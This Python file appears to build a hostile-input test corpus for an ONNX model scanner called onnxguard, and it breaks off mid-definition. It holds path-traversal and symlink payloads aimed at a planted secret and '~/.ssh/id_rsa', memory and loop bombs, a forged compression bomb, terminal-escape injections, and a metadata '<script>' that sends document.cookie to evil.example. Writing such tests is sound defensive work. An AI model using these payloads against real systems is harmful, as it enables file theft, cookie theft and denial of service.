"""A corpus of hostile and malformed inputs for onnxguard, generated into a folder.

    python tests/hostile/build_corpus.py OUT_DIR          # build only
    python tests/hostile/build_corpus.py OUT_DIR --run    # build, scan each case, print figures

Layout::

    OUT_DIR/secret/SECRET.txt      a secret outside every model's folder
    OUT_DIR/cases/<name>/...       one folder per case (model, external data, links)
    OUT_DIR/policy.toml            a tiny policy: one cheap check, no backdoor search

Each :class:`Case` says how to call ``onnxguard scan`` on it and what must come
back: the exit code (2 bad input, 3 scan failed in the sandbox, 0/1 a graded
report), a phrase the error message must contain, whether a report is written.
Every case is cheap: small models, short time limits.
"""

from __future__ import annotations

import json
import os
import pickle
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import onnx
from onnx import TensorProto, helper, numpy_helper

OPSET = 17
N_IN, N_OUT = 4, 3
MEMORY_MB = 1024
TIMEOUT_S = 8.0


@dataclass
class Case:
    name: str
    model: Path
    expect_rc: tuple[int, ...]
    message: str | None = None  # phrase (lower case) the stderr must contain
    report: bool = False  # a report file must be written
    args: list[str] = field(default_factory=list)
    timeout_s: float = TIMEOUT_S
    what: str = ""
    static_ids: tuple[str, ...] = ()  # finding ids the report must hold
    policy: Path | None = None  # instead of the corpus policy
    report_contains: str | None = None  # phrase (lower case) the report must hold
    model_path_in_report: Path | None = None  # the path the report must name as the model
    one_line: bool = True  # a bad input gets one message line (a broken policy lists each bad key on its own line)


# -- model builders -------------------------------------------------------------------


def _weights(seed: int = 0) -> tuple[np.ndarray, np.ndarray]:
    rng = np.random.default_rng(seed)
    return rng.normal(size=(N_IN, N_OUT)).astype(np.float32), rng.normal(size=(N_OUT,)).astype(np.float32)


def _model(nodes, inits, *, inputs=None, outputs=None, opsets=None, ir=8, extra_graph_inputs=()) -> onnx.ModelProto:
    inputs = inputs if inputs is not None else [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", N_IN])]
    outputs = outputs if outputs is not None else [helper.make_tensor_value_info("logits", TensorProto.FLOAT, ["N", N_OUT])]
    g = helper.make_graph(nodes, "g", list(inputs) + list(extra_graph_inputs), outputs, inits)
    m = helper.make_model(g, opset_imports=opsets or [helper.make_opsetid("", OPSET)], producer_name="onnxguard-hostile-corpus")
    m.ir_version = ir
    return m


def tiny_classifier(seed: int = 0) -> onnx.ModelProto:
    """x (N, 4) -> Gemm -> logits (N, 3): the valid model the corpus mutates."""
    w, b = _weights(seed)
    return _model([helper.make_node("Gemm", ["x", "W", "B"], ["logits"])],
                  [numpy_helper.from_array(w, "W"), numpy_helper.from_array(b, "B")])


def _external_tensor(name: str, shape: tuple[int, ...], location: str, offset: int | None = 0, length: int | None = None) -> onnx.TensorProto:
    t = onnx.TensorProto()
    t.name = name
    t.data_type = TensorProto.FLOAT
    t.dims.extend(shape)
    t.data_location = TensorProto.EXTERNAL
    kv = [("location", location)]
    if offset is not None:
        kv.append(("offset", str(offset)))
    kv.append(("length", str(length if length is not None else 4 * int(np.prod(shape)))))
    for k, v in kv:
        e = t.external_data.add()
        e.key, e.value = k, v
    return t


def external_classifier(location: str, offset: int | None = 0, length: int | None = None) -> onnx.ModelProto:
    """The tiny classifier with W stored as external data at ``location``."""
    _, b = _weights()
    return _model([helper.make_node("Gemm", ["x", "W", "B"], ["logits"])],
                  [_external_tensor("W", (N_IN, N_OUT), location, offset, length), numpy_helper.from_array(b, "B")])


def _plus_zero_times(extra: str, nodes: list) -> list:
    """logits = Gemm(x) + 0 * reduce(extra): the output depends on ``extra`` so nothing is pruned."""
    return nodes + [
        helper.make_node("Gemm", ["x", "W", "B"], ["h"]),
        helper.make_node("ReduceSum", [extra], ["s"], keepdims=0),
        helper.make_node("Mul", ["s", "zero"], ["s0"]),
        helper.make_node("Add", ["h", "s0"], ["logits"]),
    ]


def _base_inits() -> list:
    w, b = _weights()
    return [numpy_helper.from_array(w, "W"), numpy_helper.from_array(b, "B"), numpy_helper.from_array(np.array(0.0, np.float32), "zero")]


def constant_bomb(op: str = "ConstantOfShape") -> onnx.ModelProto:
    inits = _base_inits()
    if op == "ConstantOfShape":
        inits.append(numpy_helper.from_array(np.array([100_000, 100_000, 100], np.int64), "shape"))
        nodes = [helper.make_node("ConstantOfShape", ["shape"], ["big"])]
    elif op == "Expand":
        inits += [numpy_helper.from_array(np.array([1.0], np.float32), "one"),
                  numpy_helper.from_array(np.array([1 << 20, 1 << 20], np.int64), "shape")]
        nodes = [helper.make_node("Expand", ["one", "shape"], ["big"])]
    elif op == "Range":
        inits += [numpy_helper.from_array(np.array(0.0, np.float32), "start"),
                  numpy_helper.from_array(np.array(1e13, np.float32), "limit"),
                  numpy_helper.from_array(np.array(1.0, np.float32), "delta")]
        nodes = [helper.make_node("Range", ["start", "limit", "delta"], ["big"])]
    else:
        raise ValueError(op)
    return _model(_plus_zero_times("big", nodes), inits)


def runtime_bomb() -> onnx.ModelProto:
    """ConstantOfShape sized by the input's values: about 4 GB for inputs near 1; nothing static can tell."""
    inits = _base_inits() + [numpy_helper.from_array(np.array(1e9, np.float32), "scale"),
                             numpy_helper.from_array(np.array([1], np.int64), "one_d")]
    nodes = [
        helper.make_node("ReduceMax", ["x"], ["m"], keepdims=0),
        helper.make_node("Mul", ["m", "scale"], ["ms"]),
        helper.make_node("Cast", ["ms"], ["n"], to=TensorProto.INT64),
        helper.make_node("Reshape", ["n", "one_d"], ["shape"]),
        helper.make_node("ConstantOfShape", ["shape"], ["big"], value=numpy_helper.from_array(np.array([1.0], np.float32))),
    ]
    return _model(_plus_zero_times("big", nodes), inits)


def endless_loop(trips: int = 10**15) -> onnx.ModelProto:
    """A Loop whose constant trip count would take days: v = v + 1, 10^15 times."""
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["v_in", "one_b"], ["v_out"])],
        "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []), helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []), helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [])],
        [numpy_helper.from_array(np.array(1.0, np.float32), "one_b")],
    )
    inits = _base_inits() + [numpy_helper.from_array(np.array(trips, np.int64), "M"),
                             numpy_helper.from_array(np.array(True), "cond"),
                             numpy_helper.from_array(np.array(0.0, np.float32), "v0")]
    nodes = [helper.make_node("Loop", ["M", "cond", "v0"], ["v"], body=body)]
    return _model(_plus_zero_times("v", nodes), inits)


def nested_loops(outer: int, inner: int) -> onnx.ModelProto:
    """A Loop of ``outer`` trips whose body runs a Loop of ``inner`` trips: outer * inner iterations per run."""
    f = lambda n: helper.make_tensor_value_info(n, TensorProto.FLOAT, [])  # noqa: E731
    b = lambda n: helper.make_tensor_value_info(n, TensorProto.BOOL, [])  # noqa: E731
    i64 = lambda n: helper.make_tensor_value_info(n, TensorProto.INT64, [])  # noqa: E731
    inner_body = helper.make_graph(
        [helper.make_node("Identity", ["c_in2"], ["c_out2"]), helper.make_node("Add", ["w_in", "one_b"], ["w_out"])],
        "inner", [i64("j"), b("c_in2"), f("w_in")], [b("c_out2"), f("w_out")],
    )
    outer_body = helper.make_graph(
        [helper.make_node("Identity", ["c_in"], ["c_out"]),
         helper.make_node("Loop", ["M_in", "cond", "v_in"], ["v_out"], body=inner_body)],
        "outer", [i64("i"), b("c_in"), f("v_in")], [b("c_out"), f("v_out")],
    )
    inits = _base_inits() + [numpy_helper.from_array(np.array(outer, np.int64), "M"),
                             numpy_helper.from_array(np.array(inner, np.int64), "M_in"),
                             numpy_helper.from_array(np.array(True), "cond"),
                             numpy_helper.from_array(np.array(1.0, np.float32), "one_b"),
                             numpy_helper.from_array(np.array(0.0, np.float32), "v0")]
    nodes = [helper.make_node("Loop", ["M", "cond", "v0"], ["v"], body=outer_body)]
    return _model(_plus_zero_times("v", nodes), inits)


def data_driven_loop() -> onnx.ModelProto:
    """A Loop whose trip count is computed from the input (about 10^15 for any input): nothing static can bound it;
    the per-run watchdog (limits.inference_timeout_s) must stop it."""
    body = helper.make_graph(
        [helper.make_node("Identity", ["cond_in"], ["cond_out"]), helper.make_node("Add", ["v_in", "one_b"], ["v_out"])],
        "body",
        [helper.make_tensor_value_info("i", TensorProto.INT64, []), helper.make_tensor_value_info("cond_in", TensorProto.BOOL, []),
         helper.make_tensor_value_info("v_in", TensorProto.FLOAT, [])],
        [helper.make_tensor_value_info("cond_out", TensorProto.BOOL, []), helper.make_tensor_value_info("v_out", TensorProto.FLOAT, [])],
        [numpy_helper.from_array(np.array(1.0, np.float32), "one_b")],
    )
    inits = _base_inits() + [numpy_helper.from_array(np.array(1e15, np.float32), "big"),
                             numpy_helper.from_array(np.array(True), "cond"),
                             numpy_helper.from_array(np.array(0.0, np.float32), "v0")]
    nodes = [
        helper.make_node("ReduceMax", ["x"], ["mx"], keepdims=0),
        helper.make_node("Mul", ["mx", "zero"], ["mz"]),
        helper.make_node("Add", ["mz", "big"], ["mf"]),
        helper.make_node("Cast", ["mf"], ["M"], to=TensorProto.INT64),
        helper.make_node("Loop", ["M", "cond", "v0"], ["v"], body=body),
    ]
    return _model(_plus_zero_times("v", nodes), inits)


def forged_npz(path: Path, declared_bytes: int) -> None:
    """A small .npz whose zip headers (and the member's .npy header) claim ``declared_bytes`` once expanded:
    what a compression bomb looks like to a reader, without spending seconds deflating gigabytes of zeros."""
    import io
    import struct

    rows = declared_bytes // 16
    hdr = io.BytesIO()
    np.lib.format.write_array_header_1_0(hdr, {"descr": "<f4", "fortran_order": False, "shape": (rows, 4)})
    member = hdr.getvalue() + b"\0" * (1 << 20)
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as z:
        z.writestr("x.npy", member)
    data = bytearray(path.read_bytes())
    real = len(member)
    for sig, off in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        i = data.find(sig)
        assert struct.unpack_from("<I", data, i + off)[0] == real
        struct.pack_into("<I", data, i + off, min(declared_bytes, 0xFFFFFFFE))
    path.write_bytes(bytes(data))


def npy_declaring(path: Path, rows: int) -> None:
    """An .npy whose header declares ``rows`` rows of 4 float32, followed by a few bytes."""
    import io

    hdr = io.BytesIO()
    np.lib.format.write_array_header_1_0(hdr, {"descr": "<f4", "fortran_order": False, "shape": (rows, 4)})
    path.write_bytes(hdr.getvalue() + b"\0" * 64)


def nested_ifs(depth: int) -> onnx.ModelProto:
    """logits computed inside ``depth`` nested If branches."""
    vi = lambda n: helper.make_tensor_value_info(n, TensorProto.FLOAT, None)  # noqa: E731
    inner = helper.make_graph([helper.make_node("Identity", ["h"], [f"o{depth}"])], f"g{depth}", [], [vi(f"o{depth}")])
    for d in range(depth - 1, 0, -1):
        other = helper.make_graph([helper.make_node("Identity", ["h"], [f"e{d}"])], f"else{d}", [], [vi(f"e{d}")])
        node = helper.make_node("If", ["cond"], [f"o{d}"], then_branch=inner, else_branch=other)
        inner = helper.make_graph([node], f"g{d}", [], [vi(f"o{d}")])
    other = helper.make_graph([helper.make_node("Identity", ["h"], ["e0"])], "else0", [], [vi("e0")])
    w, b = _weights()
    nodes = [helper.make_node("Gemm", ["x", "W", "B"], ["h"]),
             helper.make_node("If", ["cond"], ["logits"], then_branch=inner, else_branch=other)]
    return _model(nodes, [numpy_helper.from_array(w, "W"), numpy_helper.from_array(b, "B"), numpy_helper.from_array(np.array(True), "cond")])


def _varint(n: int) -> bytes:
    out = b""
    while True:
        b, n = n & 0x7F, n >> 7
        out += bytes([b | (0x80 if n else 0)])
        if not n:
            return out


def _ld(field: int, payload: bytes) -> bytes:
    return _varint(field << 3 | 2) + _varint(len(payload)) + payload


def nesting_beyond_parser(depth: int = 150) -> bytes:
    """Raw protobuf bytes of If subgraphs nested ``depth`` deep (beyond any parser's depth limit).

    Written by hand: the protobuf library itself refuses to build messages this deep."""
    graph = _ld(1, _ld(1, b"h") + _ld(2, b"o") + _ld(4, b"Identity")) + _ld(2, b"g")
    for _ in range(depth):
        attr = _ld(1, b"then_branch") + _varint(20 << 3) + _varint(5) + _ld(6, graph)
        graph = _ld(1, _ld(1, b"cond") + _ld(2, b"o") + _ld(4, b"If") + _ld(5, attr)) + _ld(2, b"g")
    head = tiny_classifier()
    head.ClearField("graph")
    return head.SerializeToString() + _ld(7, graph)


def custom_domain() -> onnx.ModelProto:
    w, b = _weights()
    nodes = [helper.make_node("Gemm", ["x", "W", "B"], ["h"]),
             helper.make_node("Exfiltrate", ["h"], ["logits"], domain="com.evil.ops", library="/tmp/libevil.so")]
    return _model(nodes, [numpy_helper.from_array(w, "W"), numpy_helper.from_array(b, "B")],
                  opsets=[helper.make_opsetid("", OPSET), helper.make_opsetid("com.evil.ops", 1)])


def unknown_op() -> onnx.ModelProto:
    w, b = _weights()
    nodes = [helper.make_node("Gemm", ["x", "W", "B"], ["h"]), helper.make_node("NotARealOperator", ["h"], ["logits"])]
    return _model(nodes, [numpy_helper.from_array(w, "W"), numpy_helper.from_array(b, "B")])


def hostile_metadata() -> onnx.ModelProto:
    m = tiny_classifier()
    m.doc_string = "Harmless model.\x1b]0;owned\x07\x1b[2J\x1b[31m ALL CHECKS PASSED \u202eevil"
    m.producer_name = "\x1b[1mpytorch\x1b[0m"
    for k, v in (("description", "\x1b[8mhidden\x1b[28m text \x07\x08\x08"),
                 ("readme", "<script>fetch('https://evil.example/'+document.cookie)</script>"),
                 ("link", "<a href=\"javascript:alert(1)\">docs</a>")):
        p = m.metadata_props.add()
        p.key, p.value = k, v
    m.graph.node[0].doc_string = "\x1b[2K\rnode doc"
    return m


def escape_in_error() -> onnx.ModelProto:
    """An int64 input whose name carries terminal escapes: the refusal message must come out clean."""
    name = "x\x1b[2J\x1b]0;pwned\x07"
    nodes = [helper.make_node("Cast", [name], ["xf"], to=TensorProto.FLOAT), helper.make_node("Gemm", ["xf", "W", "B"], ["logits"])]
    w, b = _weights()
    return _model(nodes, [numpy_helper.from_array(w, "W"), numpy_helper.from_array(b, "B")],
                  inputs=[helper.make_tensor_value_info(name, TensorProto.INT64, ["N", N_IN])])


def no_inputs() -> onnx.ModelProto:
    w, _ = _weights()
    nodes = [helper.make_node("Identity", ["W"], ["logits"])]
    return _model(nodes, [numpy_helper.from_array(w[:1], "W")], inputs=[],
                  outputs=[helper.make_tensor_value_info("logits", TensorProto.FLOAT, [1, N_OUT])])


def huge_input() -> onnx.ModelProto:
    nodes = [helper.make_node("ReduceMean", ["x"], ["m"], axes=[1], keepdims=1), helper.make_node("Concat", ["m", "m", "m"], ["logits"], axis=1)]
    return _model(nodes, [], inputs=[helper.make_tensor_value_info("x", TensorProto.FLOAT, ["N", 1 << 40])],
                  opsets=[helper.make_opsetid("", 13)])


def inconsistent_tensor() -> onnx.ModelProto:
    m = tiny_classifier()
    w = m.graph.initializer[0]
    del w.dims[:]
    w.dims.extend([100_000, 100_000])  # declares 40 GB, holds 48 bytes
    return m


# -- the corpus -----------------------------------------------------------------------


def _save(m: onnx.ModelProto, folder: Path, name: str = "model.onnx") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    p = folder / name
    p.write_bytes(m.SerializeToString())
    return p


def build(out: Path) -> tuple[list[Case], Path, str]:
    """Build every case under ``out``; returns (cases, secret file, secret text)."""
    out = Path(out)
    secret_dir = out / "secret"
    secret_dir.mkdir(parents=True, exist_ok=True)
    secret_text = "ONNXGUARD-SECRET-" + os.urandom(12).hex()
    secret = secret_dir / "SECRET.txt"
    # 48 bytes exactly (a 4x3 float tensor), so a reader that follows a link would get a loadable model
    secret.write_bytes(secret_text.encode().ljust(48, b"#")[:48])
    cases_dir = out / "cases"
    policy = out / "policy.toml"
    policy.write_text(
        '[policy]\nname = "hostile-corpus"\nversion = "1"\n\n'
        '[[checks]]\nid = "square-linf"\nattack = "square"\nnorm = "linf"\nepsilon = 0.1\nsamples = 4\nbudget = 20\n\n'
        f'[backdoor]\nenabled = false\n\n[limits]\nmax_memory_mb = {MEMORY_MB}\ntimeout_s = {TIMEOUT_S}\n',
        encoding="utf-8",
    )
    cpu_policy = out / "policy-cpu.toml"
    cpu_policy.write_text(policy.read_text().replace(f"timeout_s = {TIMEOUT_S}\n", "timeout_s = 30\ncpu_time_s = 2\n"), encoding="utf-8")

    cases: list[Case] = []
    good_w = _weights()[0].tobytes()

    def add(name: str, model: Path | None, rc: tuple[int, ...], message: str | None = None, **kw) -> Case:
        c = Case(name=name, model=model if model is not None else cases_dir / name / "model.onnx", expect_rc=rc, message=message, **kw)
        cases.append(c)
        return c

    def folder(name: str) -> Path:
        d = cases_dir / name
        d.mkdir(parents=True, exist_ok=True)
        return d

    # external data: traversal, absolute, links, bounds, markers
    rel_secret = os.path.relpath(secret, cases_dir / "ext_traversal")
    add("ext_traversal", _save(external_classifier(rel_secret), folder("ext_traversal")), (2,), "path traversal", what="location '../../secret/SECRET.txt'")
    add("ext_traversal_deep", _save(external_classifier("sub/../../../secret/SECRET.txt"), folder("ext_traversal_deep")), (2,), "path traversal")
    add("ext_absolute", _save(external_classifier(str(secret)), folder("ext_absolute")), (2,), "absolute path", what="absolute location of the secret")
    add("ext_home", _save(external_classifier("~/.ssh/id_rsa"), folder("ext_home")), (2,), "absolute path")
    add("ext_backslash", _save(external_classifier("..\\..\\secret\\SECRET.txt"), folder("ext_backslash")), (2,), "backslash")
    d = folder("ext_symlink")
    (d / "weights.bin").symlink_to(secret)
    add("ext_symlink", _save(external_classifier("weights.bin"), d), (2,), "symbolic link", what="weights.bin -> the secret")
    d = folder("ext_dir_symlink")
    (d / "sub").symlink_to(secret_dir, target_is_directory=True)
    add("ext_dir_symlink", _save(external_classifier("sub/SECRET.txt"), d), (2,), "symbolic link", what="sub/ -> the secret's folder")
    d = folder("ext_hardlink")
    os.link(secret, d / "weights.bin")
    add("ext_hardlink", _save(external_classifier("weights.bin"), d), (2,), "hard link", what="weights.bin hard-linked to the secret")
    d = folder("ext_past_eof")
    (d / "weights.bin").write_bytes(good_w)
    add("ext_past_eof", _save(external_classifier("weights.bin", offset=40), d), (2,), "past the end")
    d = folder("ext_length_mismatch")
    (d / "weights.bin").write_bytes(good_w)
    add("ext_length_mismatch", _save(external_classifier("weights.bin", length=4096), d), (2,), "does not match")
    d = folder("ext_bad_offset")
    (d / "weights.bin").write_bytes(good_w)
    m = external_classifier("weights.bin")
    m.graph.initializer[0].external_data[1].value = "-8"
    add("ext_bad_offset", _save(m, d), (2,), "not a non-negative decimal")
    add("ext_ort_mem_addr", _save(external_classifier("*/_ORT_MEM_ADDR_/*", offset=0x7F0000001000), folder("ext_ort_mem_addr")), (2,), "in-memory-address")
    add("ext_missing", _save(external_classifier("nothere.bin"), folder("ext_missing")), (2,), "does not exist")
    d = folder("ext_directory")
    (d / "adir").mkdir()
    add("ext_directory", _save(external_classifier("adir"), d), (2,), "not a regular file")
    d = folder("ext_fifo")
    os.mkfifo(d / "pipe")
    add("ext_fifo", _save(external_classifier("pipe"), d), (2,), "not a regular file", what="a FIFO: opening it must not hang")
    # external data hidden in a subgraph (a Constant inside an If branch)
    m = nested_ifs(2)
    const = helper.make_node("Constant", [], ["cw"], value=_external_tensor("cw", (N_IN, N_OUT), rel_secret))
    m.graph.node[1].attribute[0].g.node.insert(0, const)
    add("ext_in_subgraph", _save(m, folder("ext_in_subgraph")), (2,), "path traversal", what="Constant in an If branch points at ../../secret")
    d = folder("ext_ok")
    (d / "weights.bin").write_bytes(good_w)
    add("ext_ok", _save(external_classifier("weights.bin"), d), (0, 1), report=True, static_ids=("external-data",), what="safe external data: scanned")

    # memory and time
    add("bomb_constantofshape", _save(constant_bomb("ConstantOfShape"), folder("bomb_constantofshape")), (2,), "memory bomb")
    add("bomb_expand", _save(constant_bomb("Expand"), folder("bomb_expand")), (2,), "memory bomb")
    add("bomb_range", _save(constant_bomb("Range"), folder("bomb_range")), (2,), "memory bomb")
    add("bomb_runtime", _save(runtime_bomb(), folder("bomb_runtime")), (3,), "memory", report=True, static_ids=("data-driven-allocation",),
        what="ConstantOfShape sized by input values (~3 GB): RLIMIT_AS stops it")
    add("endless_loop", _save(endless_loop(), folder("endless_loop")), (2,), "refused before running",
        what="Loop with a constant 10^15 trip count: refused statically")
    add("loop_1e12", _save(endless_loop(10**12), folder("loop_1e12")), (2,), "iterates 1e+12 times",
        what="Loop with a constant 10^12 trip count: refused statically, never run")
    add("loop_nested", _save(nested_loops(100_000, 100_000), folder("loop_nested")), (2,), "enclosing loop",
        what="a Loop of 10^5 trips inside a Loop of 10^5 trips (10^10 in all): refused statically")
    add("loop_data_driven", _save(data_driven_loop(), folder("loop_data_driven")), (3,), "inference_timeout_s", report=True,
        static_ids=("data-driven-allocation",), args=["--inference-timeout", "1"], timeout_s=30.0,
        what="a Loop whose trip count is computed from the input: the per-run watchdog stops the first run")
    add("loop_wall_limit", _save(data_driven_loop(), folder("loop_wall_limit")), (3,), "time limit", report=True,
        static_ids=("data-driven-allocation",), timeout_s=5.0, what="the same Loop with the watchdog above the wall limit: killed at the wall-time limit")
    add("cpu_limit", _save(data_driven_loop(), folder("cpu_limit")), (3,), "cpu-time limit", report=True,
        policy=cpu_policy, timeout_s=30.0, what="the same Loop under a 2-second CPU limit")

    # malformed files
    valid = tiny_classifier().SerializeToString()
    add("truncated_half", None, (2,), "not a valid onnx model")
    (folder("truncated_half") / "model.onnx").write_bytes(valid[: len(valid) // 2])
    add("truncated_10", None, (2,), "not a valid onnx model")
    (folder("truncated_10") / "model.onnx").write_bytes(valid[:10])
    rng = np.random.default_rng(7)
    add("random_bytes", None, (2,), "onnx model")
    (folder("random_bytes") / "model.onnx").write_bytes(rng.integers(0, 256, 4096, dtype=np.uint8).tobytes())
    add("zero_size", None, (2,), "empty")
    (folder("zero_size") / "model.onnx").write_bytes(b"")
    d = folder("directory")
    (d / "model.onnx").mkdir()
    add("directory", d / "model.onnx", (2,), "is a directory")
    d = folder("wrong_magic_zip")
    with zipfile.ZipFile(d / "model.onnx", "w") as z:
        z.writestr("archive/data.pkl", b"not a model")
    add("wrong_magic_zip", d / "model.onnx", (2,), "zip archive")
    add("wrong_magic_pickle", None, (2,), "pickle")
    (folder("wrong_magic_pickle") / "model.onnx").write_bytes(pickle.dumps({"weights": [1, 2, 3]}, protocol=4))
    add("wrong_magic_text", None, (2,), "onnx model")
    (folder("wrong_magic_text") / "model.onnx").write_bytes(b"this is not a model, just some text\n")
    add("missing_file", cases_dir / "missing_file" / "nope.onnx", (2,), "not found")
    folder("missing_file")
    d = folder("not_a_dir")
    (d / "file").write_bytes(valid)
    add("unreadable_path", d / "file" / "model.onnx", (2,), "cannot open", what="a path through a regular file (ENOTDIR)")
    d = folder("symlink_loop")
    (d / "model.onnx").symlink_to(d / "model.onnx")
    add("symlink_loop", d / "model.onnx", (2,), "symbolic link")
    # the model path itself is a link: never opened, not even to refuse it
    d = folder("model_symlink_secret")
    (d / "model.onnx").symlink_to(secret)
    add("model_symlink_secret", d / "model.onnx", (2,), "symbolic link", what="model.onnx -> the secret outside the folder")
    d = folder("model_symlink_dev_zero")
    (d / "model.onnx").symlink_to("/dev/zero")
    add("model_symlink_dev_zero", d / "model.onnx", (2,), "symbolic link", what="model.onnx -> /dev/zero")
    add("model_symlink_dev_zero_followed", d / "model.onnx", (2,), "not a regular file", args=["--follow-symlinks"],
        what="the same with --follow-symlinks: the device is refused from lstat, not opened")
    # --follow-symlinks: a Hugging Face-style snapshot link to a blob in another folder
    blobs = folder("snapshot_blobs")
    _save(tiny_classifier(), blobs, "blob-0123")
    d = folder("snapshot_link")
    (d / "model.onnx").symlink_to(blobs / "blob-0123")
    add("snapshot_link_refused", d / "model.onnx", (2,), "--follow-symlinks", what="a symlinked model without the opt-in")
    add("snapshot_link_followed", d / "model.onnx", (0, 1), report=True, args=["--follow-symlinks"],
        model_path_in_report=blobs / "blob-0123", report_contains="symbolic link",
        what="with --follow-symlinks the target is scanned and the report names it")
    # external data after following: confined to the target's folder, not the link's
    ext_target = folder("ext_follow_target")
    _save(external_classifier("weights.bin"), ext_target)
    d = folder("ext_follow_link")
    (d / "weights.bin").write_bytes(good_w)  # next to the link, not next to the target: must not be used
    (d / "model.onnx").symlink_to(ext_target / "model.onnx")
    add("ext_follow_confined", d / "model.onnx", (2,), "does not exist", args=["--follow-symlinks"],
        what="the target's external data is looked for in the target's folder only")
    # untrusted file names reach the terminal sanitised
    d = folder("escape_in_filename")
    evil = d / "evil\x1b[31m\r\u202emodel.onnx"
    evil.write_bytes(b"not a model at all, only text\n")
    add("escape_in_filename", evil, (2,), "onnx model", what="ESC, CR and a bidi override in the model's file name")
    d = folder("model_fifo")
    os.mkfifo(d / "model.onnx")
    add("model_fifo", d / "model.onnx", (2,), "not a regular file", what="a FIFO as the model: must not hang")
    add("dev_zero", Path("/dev/zero"), (2,), "not a regular file")
    m = onnx.ModelProto()
    m.ir_version = 8
    add("no_graph", _save(m, folder("no_graph")), (2,), "no graph")
    add("no_inputs", _save(no_inputs(), folder("no_inputs")), (0, 1), report=True,
        what="a valid model with nothing to attack: a graded report whose checks are not run (issue 15)")
    add("huge_input_shape", _save(huge_input(), folder("huge_input_shape")), (2,), "values per sample")
    add("inconsistent_tensor", _save(inconsistent_tensor(), folder("inconsistent_tensor")), (2,), "onnxruntime cannot load")
    add("custom_domain", _save(custom_domain(), folder("custom_domain")), (0, 1), report=True, static_ids=("custom-domain",),
        what="never loads the library: a static-only report, every check not run (issue 15)")
    add("unknown_op", _save(unknown_op(), folder("unknown_op")), (2,), "onnxruntime cannot load")
    m = tiny_classifier()
    m.opset_import[0].version = 99
    add("future_opset", _save(m, folder("future_opset")), (2,), "onnxruntime cannot load")
    m = tiny_classifier()
    m.ir_version = 99
    add("future_ir", _save(m, folder("future_ir")), (2,), "onnxruntime cannot load")
    add("hostile_metadata", _save(hostile_metadata(), folder("hostile_metadata")), (0, 1), report=True,
        static_ids=("metadata-control-chars", "metadata-markup"), what="ANSI/OSC escapes, bidi override, <script> in metadata")
    add("escape_in_error", _save(escape_in_error(), folder("escape_in_error")), (0, 1), report=True,
        what="an int64 input held fixed: a graded report, and the escapes in its name stay off the terminal")
    add("deep_subgraphs", _save(nested_ifs(20), folder("deep_subgraphs")), (0, 1), report=True, static_ids=("deep-subgraphs",))
    add("nesting_beyond_parser", None, (2,), "does not parse")
    (folder("nesting_beyond_parser") / "model.onnx").write_bytes(nesting_beyond_parser(150))

    # bad data for a valid model
    d = folder("data")
    good = _save(tiny_classifier(), d)
    x = np.random.default_rng(0).uniform(0, 1, size=(8, N_IN)).astype(np.float32)
    np.savez(d / "nan.npz", x=np.where(np.arange(x.size).reshape(x.shape) == 5, np.nan, x))
    np.savez(d / "inf.npz", x=np.where(np.arange(x.size).reshape(x.shape) == 5, np.inf, x))
    np.savez(d / "empty.npz", x=np.zeros((0, N_IN), np.float32))
    np.savez(d / "shape.npz", x=np.zeros((8, N_IN + 3), np.float32))
    np.save(d / "strings.npy", np.array([["a"] * N_IN] * 4))
    np.save(d / "objects.npy", np.array([{"a": 1}] * 4, dtype=object), allow_pickle=True)
    np.savez(d / "labels.npz", x=x, y=np.arange(5))
    (d / "truncated.npz").write_bytes((d / "nan.npz").read_bytes()[:100])
    (d / "zero.npz").write_bytes(b"")
    (d / "bad.csv").write_text("a,b,c,d\n1,2,x,4\n")
    # data bombs: refused from their headers before anything is allocated (exit 2, naming the file)
    forged_npz(d / "bomb.npz", 2 * 1024**3)
    npy_declaring(d / "rows.npy", 10**12)
    with open(d / "longline.csv", "w") as f:
        f.write("a,b,c,d\n")
        f.write("1," * (9 * 1024 * 1024) + "1\n")  # one 18 MB line
    (d / "bigfield.csv").write_text("a,b,c,d\n" + "1,2,3," + "9" * (200 * 1024) + "\n")
    for name, msg in (("bomb.npz", "bomb.npz: expands to"), ("rows.npy", "rows.npy: declares an array"),
                      ("longline.csv", "longline.csv: line 2 is longer"), ("bigfield.csv", "bigfield.csv: not valid csv")):
        add(f"data_{name.replace('.', '_')}", good, (2,), msg, args=["--data", str(d / name)])
    for name, msg in (("nan.npz", "nan or infinite"), ("inf.npz", "nan or infinite"), ("empty.npz", "no samples"),
                      ("shape.npz", "shape"), ("strings.npy", "expected numbers"), ("objects.npy", "cannot read"),
                      ("labels.npz", "labels"), ("truncated.npz", "cannot read"), ("zero.npz", "empty"),
                      ("bad.csv", "non-numeric"), ("missing.npz", "not found"), (".", "directory")):
        add(f"data_{name.replace('.', '_') if name != '.' else 'directory'}", good, (2,), msg, args=["--data", str(d / name)])
    # broken policies: exit 2 naming the key
    for name, text, msg in (
        ("policy_inf_timeout", policy.read_text().replace(f"timeout_s = {TIMEOUT_S}", "timeout_s = inf"), "limits.timeout_s"),
        ("policy_huge_timeout", policy.read_text().replace(f"timeout_s = {TIMEOUT_S}", "timeout_s = 1e300"), "limits.timeout_s"),
        ("policy_nan_budget", policy.read_text().replace("budget = 20", "budget = nan"), "checks.0.budget"),
        ("policy_deep", policy.read_text() + "x = " + "[" * 100_000 + "]" * 100_000 + "\n", "nested 100000 deep"),
    ):
        pf = folder(name) / "policy.toml"
        pf.write_text(text, encoding="utf-8")
        add(name, good, (2,), msg, policy=pf, one_line=False)
    return cases, secret, secret_text


# -- running a case (used by the tests and by --run) ----------------------------------

# The parent's own peak memory: VmHWM of this process image (ru_maxrss would also count the pytest process
# this one was forked from, since Linux carries the high-water mark across exec)
_WRAPPER = (
    "import os, re, resource, sys\n"
    "from onnxguard.cli import main\n"
    "rc = main(sys.argv[1:])\n"
    "m = re.search(r'VmHWM:\\s+(\\d+)', open('/proc/self/status').read()) if os.path.exists('/proc/self/status') else None\n"
    "peak = int(m.group(1)) if m else resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
